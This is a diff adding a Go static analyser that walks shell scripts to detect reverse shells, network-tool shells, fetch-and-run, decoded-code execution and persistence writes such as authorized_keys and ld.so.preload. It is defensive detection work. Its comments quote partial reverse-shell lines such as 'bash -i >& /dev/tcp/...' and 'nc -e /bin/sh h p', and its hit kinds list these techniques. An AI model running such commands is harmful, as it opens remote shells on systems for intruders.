@@ -1,0 +1,797 @@
+package shell
+
+import (
+	"bytes"
+	"path"
+	"slices"
+	"strconv"
+	"strings"
+
+	"mvdan.cc/sh/v3/syntax"
+)
+
+// Limits that keep one hostile file from costing more than a moment.
+const (
+	maxStmts      = 20000   // statements evaluated per file, over every pass and nesting
+	maxNesting    = 8       // sh -c, eval and decoded code inside each other
+	maxCallDepth  = 4       // shell function calls inside each other
+	maxValueBytes = 1 << 20 // text a value keeps
+	maxPasses     = 3       // passes over a script so named pipes written late feed reads early
+)
+
+// analysis is the state of one file's analysis: what the script has set, written and made,
+// and what it was found doing.
+type analysis struct {
+	vars  map[string]val
+	funcs map[string]*syntax.Stmt
+	// files are the files the script wrote (or downloaded to), by path; fifos the named
+	// pipes it made. Both outlive a pass, so that a pipe written at the end of a pipeline is
+	// read at its start on the next pass.
+	files map[string]val
+	fifos map[string]bool
+	// shellFDs are the shell's own descriptors (exec 5<>/dev/tcp/...).
+	shellFDs fdset
+	pos      []val // positional parameters
+	budget   int
+	nesting  int
+	calls    int
+	// chain is the decodings that produced the code being analysed; place the persistence
+	// place it was written into by a script ("" when it is the file's own text).
+	chain []string
+	place string
+	// src is the text being parsed, for evidence; pipeline is the whole pipeline the
+	// command being run is a stage of, which evidence shows rather than the stage alone.
+	src      []byte
+	pipeline *syntax.Stmt
+	// lineBase is added to the line numbers of the text parsed at the file's own level (a
+	// crontab's command field starts on its line); fileLine is the line of the file-level
+	// statement being run, which every hit inside it reports.
+	lineBase int
+	fileLine int
+	hits     *hitList
+}
+
+func newAnalysis(hits *hitList) *analysis {
+	return &analysis{vars: map[string]val{}, funcs: map[string]*syntax.Stmt{}, files: map[string]val{},
+		fifos: map[string]bool{}, shellFDs: fdset{}, budget: maxStmts, hits: hits}
+}
+
+// desc is one file descriptor of a command: what reading it gives and where writing goes.
+type desc struct {
+	rd val
+	wr *sink
+}
+
+// sink is where a command's output goes.
+type sink struct {
+	buf  *val   // a pipe or a capture
+	path string // a file
+	app  bool
+	net  bool
+}
+
+type fdset map[int]desc
+
+func (f fdset) clone() fdset {
+	out := make(fdset, len(f)+2)
+	for k, v := range f {
+		out[k] = v
+	}
+	return out
+}
+
+// shellText analyses shell code: the text is parsed whole, or line by line when it does not
+// parse (a history file, a note with commands in it).
+func (a *analysis) shellText(code []byte, fds fdset) {
+	if a.nesting > maxNesting || a.budget <= 0 || len(code) == 0 {
+		return
+	}
+	a.nesting++
+	defer func() { a.nesting-- }()
+	saved, savedPipe := a.src, a.pipeline
+	a.pipeline = nil
+	defer func() { a.src, a.pipeline = saved, savedPipe }()
+	top := a.nesting == 1
+	p := syntax.NewParser(syntax.Variant(syntax.LangBash))
+	if f, err := p.Parse(bytes.NewReader(code), ""); err == nil {
+		a.src = code
+		for _, st := range f.Stmts {
+			if top {
+				a.fileLine = a.lineBase + int(st.Pos().Line())
+			}
+			a.stmt(st, fds)
+		}
+		return
+	}
+	for _, ll := range logicalLines(code) {
+		f, err := p.Parse(bytes.NewReader(ll.text), "")
+		if err != nil {
+			continue
+		}
+		if top {
+			a.fileLine = a.lineBase + ll.line
+		}
+		a.src = ll.text
+		a.stmts(f.Stmts, fds)
+	}
+}
+
+// shellLines analyses text line by line, each line on its own (prose around a command is
+// skipped to the command), with the variables of one line seen by the next.
+func (a *analysis) shellLines(lines []logicalLine) {
+	saved, savedPipe := a.src, a.pipeline
+	defer func() { a.src, a.pipeline = saved, savedPipe }()
+	p := syntax.NewParser(syntax.Variant(syntax.LangBash))
+	for _, ll := range lines {
+		if a.budget <= 0 {
+			return
+		}
+		f, err := p.Parse(bytes.NewReader(ll.text), "")
+		if err != nil {
+			if f = parseFromCommand(p, ll.text); f == nil {
+				continue
+			}
+		}
+		a.fileLine = a.lineBase + ll.line
+		a.src, a.pipeline = ll.text, nil
+		a.stmts(f.Stmts, fdset{})
+	}
+}
+
+type logicalLine struct {
+	text []byte
+	line int // 1-based, of its first physical line
+}
+
+// logicalLines splits text into lines, joining backslash continuations.
+func logicalLines(code []byte) []logicalLine {
+	var out []logicalLine
+	var cur []byte
+	start := 1
+	for i, l := range bytes.Split(code, []byte("\n")) {
+		if cur == nil {
+			start = i + 1
+		}
+		l = bytes.TrimRight(l, "\r")
+		if bytes.HasSuffix(l, []byte(`\`)) {
+			cur = append(cur, l[:len(l)-1]...)
+			continue
+		}
+		cur = append(cur, l...)
+		if len(bytes.TrimSpace(cur)) > 0 {
+			out = append(out, logicalLine{cur, start})
+		}
+		cur = nil
+	}
+	if len(bytes.TrimSpace(cur)) > 0 {
+		out = append(out, logicalLine{cur, start})
+	}
+	return out
+}
+
+// parseFromCommand parses a line of prose from the first word that names a command the
+// detectors care about ("run: bash -i >& /dev/tcp/..." in a note).
+func parseFromCommand(p *syntax.Parser, line []byte) *syntax.File {
+	for i := 0; i < len(line); i++ {
+		if i > 0 && !isSpaceOrPunct(line[i-1]) {
+			continue
+		}
+		j := i
+		for j < len(line) && !isSpaceOrPunct(line[j]) {
+			j++
+		}
+		if j == i || !interesting(path.Base(string(line[i:j]))) {
+			continue
+		}
+		if f, err := p.Parse(bytes.NewReader(line[i:]), ""); err == nil {
+			return f
+		}
+		// A command quoted in code or prose: "bash -i >& /dev/tcp/h/p 0>&1" in os.system("...").
+		if i > 0 && (line[i-1] == '"' || line[i-1] == '\'' || line[i-1] == '`') {
+			if k := bytes.IndexByte(line[i:], line[i-1]); k > 0 {
+				if f, err := p.Parse(bytes.NewReader(line[i:i+k]), ""); err == nil {
+					return f
+				}
+			}
+		}
+	}
+	return nil
+}
+
+func isSpaceOrPunct(c byte) bool {
+	return c == ' ' || c == '\t' || c == '`' || c == '(' || c == ':' || c == '>' || c == '"' || c == '\''
+}
+
+func (a *analysis) stmts(ss []*syntax.Stmt, fds fdset) {
+	for _, s := range ss {
+		a.stmt(s, fds)
+	}
+}
+
+// evidence returns the source text of a node, on one line, trimmed.
+func (a *analysis) evidence(n syntax.Node) string {
+	if n == nil || a.src == nil {
+		return ""
+	}
+	start, end := int(n.Pos().Offset()), int(n.End().Offset())
+	if start < 0 || end > len(a.src) || start >= end {
+		return ""
+	}
+	return oneLine(string(a.src[start:end]), 240)
+}
+
+func oneLine(s string, n int) string {
+	s = strings.Join(strings.Fields(s), " ")
+	if r := []rune(s); len(r) > n {
+		s = string(r[:n-1]) + "…"
+	}
+	return s
+}
+
+// line is the file line a hit at n reports: that of the file-level statement running.
+func (a *analysis) line(n syntax.Node) int {
+	if a.fileLine > 0 {
+		return a.fileLine
+	}
+	if n == nil {
+		return 0
+	}
+	return a.lineBase + int(n.Pos().Line())
+}
+
+func (a *analysis) stmt(s *syntax.Stmt, fds fdset) {
+	if a.budget <= 0 || s == nil {
+		return
+	}
+	a.budget--
+	fds = a.redirect(s, fds)
+	switch c := s.Cmd.(type) {
+	case *syntax.CallExpr:
+		a.callExpr(s, c, fds)
+	case *syntax.BinaryCmd:
+		switch c.Op {
+		case syntax.Pipe, syntax.PipeAll:
+			if a.pipeline == nil {
+				a.pipeline = s
+				defer func() { a.pipeline = nil }()
+			}
+			buf := &val{}
+			left := fds.clone()
+			left[1] = desc{wr: &sink{buf: buf}}
+			if c.Op == syntax.PipeAll {
+				left[2] = left[1]
+			}
+			a.stmt(c.X, left)
+			right := fds.clone()
+			right[0] = desc{rd: *buf}
+			a.stmt(c.Y, right)
+		default:
+			a.stmt(c.X, fds)
+			a.stmt(c.Y, fds)
+		}
+	case *syntax.Block:
+		a.stmts(c.Stmts, fds)
+	case *syntax.Subshell:
+		a.stmts(c.Stmts, fds)
+	case *syntax.IfClause:
+		for cl := c; cl != nil; cl = cl.Else {
+			a.stmts(cl.Cond, fds)
+			a.stmts(cl.Then, fds)
+		}
+	case *syntax.WhileClause:
+		a.stmts(c.Cond, fds)
+		a.stmts(c.Do, fds)
+	case *syntax.ForClause:
+		if wi, ok := c.Loop.(*syntax.WordIter); ok && wi.Name != nil {
+			v := unknownVal()
+			if len(wi.Items) > 0 {
+				if fields := a.fields(wi.Items[0]); len(fields) > 0 {
+					v = fields[0]
+				}
+			}
+			a.vars[wi.Name.Value] = v
+		}
+		a.stmts(c.Do, fds)
+	case *syntax.CaseClause:
+		for _, it := range c.Items {
+			a.stmts(it.Stmts, fds)
+		}
+	case *syntax.FuncDecl:
+		if c.Name != nil {
+			a.funcs[c.Name.Value] = c.Body
+		}
+	case *syntax.DeclClause:
+		for _, as := range c.Args {
+			a.assign(as)
+		}
+	case *syntax.TimeClause:
+		a.stmt(c.Stmt, fds)
+	case *syntax.CoprocClause:
+		a.stmt(c.Stmt, fds)
+	}
+}
+
+func (a *analysis) assign(as *syntax.Assign) {
+	if as == nil || as.Name == nil {
+		return
+	}
+	v := lit("")
+	if as.Value != nil {
+		v = a.word(as.Value)
+	} else if as.Array != nil {
+		var parts []val
+		for _, e := range as.Array.Elems {
+			if e.Value != nil {
+				parts = append(parts, a.word(e.Value), lit(" "))
+			}
+		}
+		v = concat(parts...)
+	}
+	if as.Append {
+		v = concat(a.vars[as.Name.Value], v)
+	}
+	a.vars[as.Name.Value] = clip(v)
+}
+
+func clip(v val) val {
+	if len(v.s) > maxValueBytes {
+		v.s, v.partial = v.s[:maxValueBytes]+unknown, true
+	}
+	return v
+}
+
+// redirect applies a statement's redirections to a copy of fds.
+func (a *analysis) redirect(s *syntax.Stmt, fds fdset) fdset {
+	if len(s.Redirs) == 0 {
+		return fds
+	}
+	fds = fds.clone()
+	for _, r := range s.Redirs {
+		n := 1
+		switch r.Op {
+		case syntax.RdrIn, syntax.RdrInOut, syntax.DplIn, syntax.Hdoc, syntax.DashHdoc, syntax.WordHdoc:
+			n = 0
+		}
+		if r.N != nil {
+			if x, err := strconv.Atoi(r.N.Value); err == nil {
+				n = x
+			} else {
+				continue // {varname}>: bash picks the number
+			}
+		}
+		switch r.Op {
+		case syntax.RdrIn:
+			fds[n] = a.openFile(a.word(r.Word), false, false, fds)
+		case syntax.RdrOut, syntax.ClbOut, syntax.AppOut:
+			fds[n] = a.openFile(a.word(r.Word), true, r.Op == syntax.AppOut, fds)
+		case syntax.RdrInOut:
+			fds[n] = a.openFile(a.word(r.Word), true, true, fds)
+		case syntax.RdrAll, syntax.AppAll:
+			d := a.openFile(a.word(r.Word), true, r.Op == syntax.AppAll, fds)
+			fds[1], fds[2] = d, d
+		case syntax.DplIn, syntax.DplOut:
+			w := a.word(r.Word)
+			t := strings.TrimSuffix(w.s, "-") // n>&m- moves
+			if w.s == "-" {
+				delete(fds, n)
+				continue
+			}
+			if m, err := strconv.Atoi(t); err == nil {
+				if d, ok := fds[m]; ok {
+					fds[n] = d
+				} else if d, ok := a.shellFDs[m]; ok {
+					fds[n] = d
+				} else {
+					delete(fds, n)
+				}
+				continue
+			}
+			// >& file is &> file.
+			d := a.openFile(w, true, false, fds)
+			if r.N == nil && r.Op == syntax.DplOut {
+				fds[1], fds[2] = d, d
+			} else {
+				fds[n] = d
+			}
+		case syntax.Hdoc, syntax.DashHdoc:
+			if r.Hdoc != nil {
+				fds[0] = desc{rd: a.word(r.Hdoc)}
+			}
+		case syntax.WordHdoc:
+			fds[0] = desc{rd: concat(a.word(r.Word), lit("\n"))}
+		}
+	}
+	return fds
+}
+
+// openFile returns the descriptor a redirection to p opens: a network connection for
+// /dev/tcp and /dev/udp, the script's own descriptors for /dev/stdin and /dev/fd/N, a file
+// the script wrote (or a named pipe it made) otherwise.
+func (a *analysis) openFile(p val, write, app bool, fds fdset) desc {
+	name := p.s
+	switch {
+	case strings.HasPrefix(name, "/dev/tcp/") || strings.HasPrefix(name, "/dev/udp/"):
+		end := endpointOf(name)
+		return desc{rd: val{s: unknown, partial: true, net: true, via: "/dev/tcp", from: end}, wr: &sink{net: true}}
+	case name == "/dev/null":
+		return desc{}
+	case name == "/dev/stdin":
+		return fds[0]
+	case name == "/dev/stdout":
+		return fds[1]
+	case name == "/dev/stderr":
+		return fds[2]
+	case strings.HasPrefix(name, "/dev/fd/"):
+		if n, err := strconv.Atoi(strings.TrimPrefix(name, "/dev/fd/")); err == nil {
+			return fds[n]
+		}
+	}
+	d := desc{rd: a.readFile(name)}
+	if write {
+		d.wr = &sink{path: name, app: app}
+	}
+	return d
+}
+
+// endpointOf renders /dev/tcp/HOST/PORT as HOST:PORT.
+func endpointOf(devPath string) string {
+	parts := strings.SplitN(strings.TrimPrefix(strings.TrimPrefix(devPath, "/dev/tcp/"), "/dev/udp/"), "/", 2)
+	if len(parts) == 2 {
+		return strings.ReplaceAll(parts[0]+":"+parts[1], unknown, "?")
+	}
+	return strings.ReplaceAll(parts[0], unknown, "?")
+}
+
+// readFile returns what reading p gives: what the script wrote there, marked as carried by
+// a named pipe when p is one.
+func (a *analysis) readFile(p string) val {
+	v, ok := a.files[p]
+	if !ok {
+		v = unknownVal()
+	}
+	if a.fifos[p] && v.net {
+		v.via = "fifo"
+	}
+	return v
+}
+
+// write sends v to where a descriptor's writes go.
+func (a *analysis) write(d desc, v val, at syntax.Node) {
+	s := d.wr
+	switch {
+	case s == nil:
+	case s.buf != nil:
+		*s.buf = clip(concat(*s.buf, v))
+	case s.path != "":
+		a.writeFile(s.path, v, s.app, at)
+	}
+}
+
+// writeFile records what the script wrote into p; text written into a persistence place is
+// analysed as that place's file.
+func (a *analysis) writeFile(p string, v val, app bool, at syntax.Node) {
+	if app {
+		if old, ok := a.files[p]; ok {
+			v = concat(old, v)
+		}
+	}
+	a.files[p] = clip(v)
+	if v.s != "" && v.s != unknown {
+		a.written(p, v, at)
+	}
+}
+
+// fields expands a word into fields: unquoted expansions whose value holds blanks are split,
+// as the shell does ($CMD with CMD="nc -e /bin/sh h p").
+func (a *analysis) fields(w *syntax.Word) []val {
+	v := a.word(w)
+	split := false
+	for _, p := range w.Parts {
+		switch p.(type) {
+		case *syntax.ParamExp, *syntax.CmdSubst:
+			split = true
+		}
+	}
+	if !split || !strings.ContainsAny(v.s, " \t\n") {
+		return []val{v}
+	}
+	var out []val
+	for _, f := range strings.Fields(v.s) {
+		x := v
+		x.s, x.partial = f, strings.Contains(f, unknown)
+		out = append(out, x)
+	}
+	if len(out) == 0 {
+		return []val{lit("")}
+	}
+	return out
+}
+
+// word evaluates a word to its value.
+func (a *analysis) word(w *syntax.Word) val {
+	if w == nil {
+		return lit("")
+	}
+	vs := make([]val, 0, len(w.Parts))
+	for _, p := range w.Parts {
+		vs = append(vs, a.part(p, false))
+	}
+	return clip(concat(vs...))
+}
+
+func (a *analysis) part(p syntax.WordPart, quoted bool) val {
+	switch x := p.(type) {
+	case *syntax.Lit:
+		if quoted {
+			return lit(unescapeDouble(x.Value))
+		}
+		return lit(unescapeBare(x.Value))
+	case *syntax.SglQuoted:
+		if x.Dollar {
+			return lit(unquoteC(x.Value))
+		}
+		return lit(x.Value)
+	case *syntax.DblQuoted:
+		vs := make([]val, 0, len(x.Parts))
+		for _, q := range x.Parts {
+			vs = append(vs, a.part(q, true))
+		}
+		return concat(vs...)
+	case *syntax.ParamExp:
+		return a.param(x)
+	case *syntax.CmdSubst:
+		return a.cmdSubst(x)
+	case *syntax.ArithmExp:
+		if n, ok := arith(x.X, a); ok {
+			return lit(strconv.FormatInt(n, 10))
+		}
+	case *syntax.ProcSubst:
+		// <(cmd) and >(cmd): the command runs; its path is unknown.
+		buf := &val{}
+		fds := fdset{1: desc{wr: &sink{buf: buf}}}
+		a.stmts(x.Stmts, fds)
+	}
+	return unknownVal()
+}
+
+func unescapeBare(s string) string {
+	if !strings.Contains(s, `\`) {
+		return s
+	}
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		if s[i] == '\\' && i+1 < len(s) {
+			i++
+		}
+		b.WriteByte(s[i])
+	}
+	return b.String()
+}
+
+func unescapeDouble(s string) string {
+	if !strings.Contains(s, `\`) {
+		return s
+	}
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		if s[i] == '\\' && i+1 < len(s) && strings.IndexByte("$`\"\\\n", s[i+1]) >= 0 {
+			i++
+		}
+		b.WriteByte(s[i])
+	}
+	return b.String()
+}
+
+// arith evaluates the integer arithmetic scripts use to build ports (4000+444).
+func arith(e syntax.ArithmExpr, a *analysis) (int64, bool) {
+	switch x := e.(type) {
+	case *syntax.Word:
+		v := a.word(x)
+		if !v.known() {
+			return 0, false
+		}
+		if n, err := strconv.ParseInt(strings.TrimSpace(v.s), 0, 64); err == nil {
+			return n, true
+		}
+		if w, ok := a.vars[strings.TrimSpace(v.s)]; ok && w.known() {
+			n, err := strconv.ParseInt(strings.TrimSpace(w.s), 0, 64)
+			return n, err == nil
+		}
+	case *syntax.ParenArithm:
+		return arith(x.X, a)
+	case *syntax.BinaryArithm:
+		l, ok1 := arith(x.X, a)
+		r, ok2 := arith(x.Y, a)
+		if !ok1 || !ok2 {
+			return 0, false
+		}
+		switch x.Op {
+		case syntax.Add:
+			return l + r, true
+		case syntax.Sub:
+			return l - r, true
+		case syntax.Mul:
+			return l * r, true
+		case syntax.Quo:
+			if r != 0 {
+				return l / r, true
+			}
+		}
+	}
+	return 0, false
+}
+
+// param evaluates $x, ${x}, ${x:-default}, ${x/a/b}, ${x:o:l} and the positional parameters.
+func (a *analysis) param(p *syntax.ParamExp) val {
+	if p.Param == nil || p.Length || p.Excl || p.Index != nil {
+		return unknownVal()
+	}
+	name := p.Param.Value
+	v, ok := a.vars[name]
+	switch {
+	case ok:
+	case len(name) == 1 && name[0] >= '1' && name[0] <= '9':
+		i := int(name[0] - '1')
+		if i < len(a.pos) {
+			v, ok = a.pos[i], true
+		}
+	case name == "@" || name == "*":
+		if len(a.pos) > 0 {
+			parts := make([]val, 0, 2*len(a.pos))
+			for i, x := range a.pos {
+				if i > 0 {
+					parts = append(parts, lit(" "))
+				}
+				parts = append(parts, x)
+			}
+			v, ok = concat(parts...), true
+		}
+	case name == "SHELL":
+		v, ok = lit("/bin/sh"), true
+	case name == "BASH":
+		v, ok = lit("/bin/bash"), true
+	}
+	if p.Exp != nil {
+		switch p.Exp.Op {
+		case syntax.DefaultUnset, syntax.DefaultUnsetOrNull:
+			if !ok || v.s == "" {
+				return a.word(p.Exp.Word)
+			}
+		case syntax.AlternateUnset, syntax.AlternateUnsetOrNull:
+			if ok && v.s != "" {
+				return a.word(p.Exp.Word)
+			}
+			return lit("")
+		case syntax.AssignUnset, syntax.AssignUnsetOrNull:
+			if !ok || v.s == "" {
+				v = a.word(p.Exp.Word)
+				a.vars[name] = v
+				return v
+			}
+		}
+	}
+	if !ok {
+		return unknownVal()
+	}
+	if p.Repl != nil && v.known() {
+		orig, with := a.word(p.Repl.Orig), a.word(p.Repl.With)
+		if orig.known() && !with.partial {
+			if p.Repl.All {
+				v.s = strings.ReplaceAll(v.s, orig.s, with.s)
+			} else {
+				v.s = strings.Replace(v.s, orig.s, with.s, 1)
+			}
+		} else {
+			return unknownVal()
+		}
+	}
+	if p.Slice != nil && v.known() {
+		off, ok1 := arith(p.Slice.Offset, a)
+		if !ok1 {
+			return unknownVal()
+		}
+		s := v.s
+		if off < 0 {
+			off += int64(len(s))
+		}
+		if off < 0 || off > int64(len(s)) {
+			return lit("")
+		}
+		s = s[off:]
+		if p.Slice.Length != nil {
+			l, ok2 := arith(p.Slice.Length, a)
+			if !ok2 {
+				return unknownVal()
+			}
+			if l >= 0 && l < int64(len(s)) {
+				s = s[:l]
+			}
+		}
+		v.s = s
+	}
+	return v
+}
+
+// cmdSubst runs $(...) and returns its output: known when the commands are ones whose
+// output the analysis can compute (echo, printf, decoders, cat of what the script wrote).
+func (a *analysis) cmdSubst(c *syntax.CmdSubst) val {
+	buf := &val{}
+	fds := fdset{1: desc{wr: &sink{buf: buf}}}
+	a.stmts(c.Stmts, fds)
+	v := *buf
+	v.s = strings.TrimRight(v.s, "\n")
+	if v.s == "" && !v.tainted() {
+		return unknownVal()
+	}
+	return v
+}
+
+// posOf returns the endpoint or origin of a value, for evidence.
+func (v val) origin() string {
+	if v.from != "" {
+		return v.from
+	}
+	return ""
+}
+
+// hitAt records a finding of kind at node n.
+func (a *analysis) hitAt(kind hitKind, n syntax.Node, v val, detail string) {
+	if a.pipeline != nil {
+		n = a.pipeline
+	}
+	h := hit{kind: kind, evidence: a.evidence(n), line: a.line(n), chain: slices.Clone(a.chain), place: a.place,
+		from: v.origin(), detail: detail}
+	if len(v.chain) > 0 {
+		h.chain = append(h.chain, v.chain...)
+	}
+	a.hits.add(h)
+}
+
+// hitKind names a behaviour.
+type hitKind int
+
+const (
+	hitDevTCP       hitKind = iota // a shell reading commands from /dev/tcp
+	hitNetExec                     // a network tool told to run a shell (nc -e, telnetd -l, rcat -s)
+	hitFifo                        // a shell looped through a named pipe and a network tool
+	hitSocat                       // socat joining a connection to a shell
+	hitNetPipe                     // a shell reading commands from a network client through a pipe
+	hitLang                        // an interpreter's code connecting a socket to a shell
+	hitCmdLoop                     // commands read from a connection and run
+	hitXterm                       // an X terminal opened on a remote display
+	hitFetchRun                    // downloaded code run
+	hitDropRun                     // downloaded into a hidden or temporary place and run
+	hitDecodeRun                   // decoded code run
+	hitKeyAppend                   // a public key written into authorized_keys
+	hitPreloadWrite                // a library written into /etc/ld.so.preload
+)
+
+// hit is one behaviour found.
+type hit struct {
+	kind     hitKind
+	lang     string // hitLang: the language
+	evidence string
+	line     int
+	chain    []string
+	place    string // the persistence place the code was written into, "" for the file's own place
+	from     string // the endpoint or URL
+	detail   string // what the title adds ("bind shell", the file run)
+	blob     bool   // found in a file that is one encoded blob
+}
+
+type hitList struct {
+	hits []hit
+	seen map[string]bool
+}
+
+func (l *hitList) add(h hit) {
+	if l.seen == nil {
+		l.seen = map[string]bool{}
+	}
+	k := strconv.Itoa(int(h.kind)) + "\x00" + h.lang + "\x00" + h.evidence + "\x00" + h.place + "\x00" + strings.Join(h.chain, ">")
+	if l.seen[k] || len(l.hits) >= 64 {
+		return
+	}
+	l.seen[k] = true
+	l.hits = append(l.hits, h)
+}
